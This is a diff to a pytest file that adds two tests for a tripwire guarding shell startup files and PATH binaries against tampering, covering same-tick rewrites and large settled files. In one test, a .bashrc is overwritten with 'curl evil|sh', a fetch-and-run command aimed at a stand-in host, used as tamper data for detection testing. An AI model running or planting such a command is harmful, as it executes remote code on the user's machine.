@@ -13,6 +13,7 @@ import os
 import shutil
 import stat
 import threading
+import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -21,6 +22,7 @@ import pytest
 
 from control.tripwire import (
     KEPT_INFIX,
+    SETTLED_NS,
     ChangeKind,
     Guard,
     Limits,
@@ -29,6 +31,7 @@ from control.tripwire import (
     Tripwire,
     own_write,
 )
+from tests.support.gui import poll
 from tests.support.home import isolate_home
 
 TIMEOUT = 30.0
@@ -714,3 +717,56 @@ def test_links_are_followed_only_so_far(
     assert [e.path for e in wire.protected if e.followed] == [home / "a", home / "b"]
     wire = wire_for(bin_dir, watch=False, home=home, limits=Limits(max_followed=1))
     assert [e.path for e in wire.protected if e.followed] == [home / "a"]
+
+
+def _as_before(st: os.stat_result) -> os.stat_result:
+    return os.stat_result((*st, st.st_atime, st.st_mtime, st.st_ctime, st.st_atime_ns,
+                           st.st_mtime_ns, st.st_ctime_ns))
+
+
+def test_a_rewrite_in_the_same_tick_as_the_last_write_is_seen_by_the_content(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """The file clock ticks in steps: a same-size rewrite in place right after a write can
+    keep the very same stamp (inode, size, mtime, ctime). A file written just before the
+    snapshot (its stamp not older than the look by a second) is therefore compared by its
+    content. The test stands in for the clock's tick: after the rewrite, lstat still says
+    what it said at the snapshot."""
+    rc = tmp_path / ".bashrc"
+    rc.write_text("alias ll='ls -l'\n")  # just written: the stamp cannot be trusted yet
+    before = _as_before(os.lstat(rc))
+    wire = wire_for(rc, watch=False)
+    with rc.open("r+") as f:
+        f.write("curl evil|sh\n")  # the same size, in place
+    real_lstat = os.lstat
+
+    def same_tick(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
+        return before if Path(path) == rc else real_lstat(path, *args, **kwargs)
+
+    monkeypatch.setattr(os, "lstat", same_tick)
+    trip = wire.check()
+    monkeypatch.undo()
+    assert trip is not None and trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
+    assert rc.read_text() == "alias ll='ls -l'\n"
+
+
+def test_a_settled_file_too_large_to_keep_is_not_read_again_yet_a_write_trips(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """A large program in a PATH folder (rustup's proxies, go binaries) is not read at each
+    look once its stamp is settled: an unchanged stamp tells it is unwritten."""
+    big = tmp_path / "cargo"
+    big.write_bytes(b"\x7fELF" + b"x" * 200)
+    settled = time.time() - 10
+    os.utime(big, (settled, settled))
+    # Its change time is now: wait until it is settled by the file clock.
+    poll(lambda: os.lstat(big).st_ctime_ns < time.time_ns() - SETTLED_NS, TIMEOUT,
+         "the file's change time to settle")
+    wire = wire_for(big, watch=False, limits=Limits(file_bytes=64))
+    [node] = [n for s in wire._snapshot for p, n in s.items() if p == big]
+    assert node.settled and node.digest == ""  # never read
+    assert wire.check() is None
+    with big.open("r+b") as f:
+        f.write(b"\x7fELF-evil")
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {str(big): ChangeKind.MODIFIED}
+    assert "too large to keep" in trip.describe()
